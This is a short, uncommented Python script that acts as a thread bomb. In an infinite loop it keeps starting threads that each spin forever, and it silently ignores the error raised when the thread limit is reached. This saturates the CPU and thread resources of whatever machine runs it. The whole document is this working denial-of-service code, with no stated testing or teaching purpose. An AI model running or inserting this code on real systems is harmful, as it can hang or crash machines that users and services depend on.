import threading

def spin():
    while True:
        pass

while True:
    try:
        threading.Thread(target=spin).start()
    except RuntimeError:
        pass
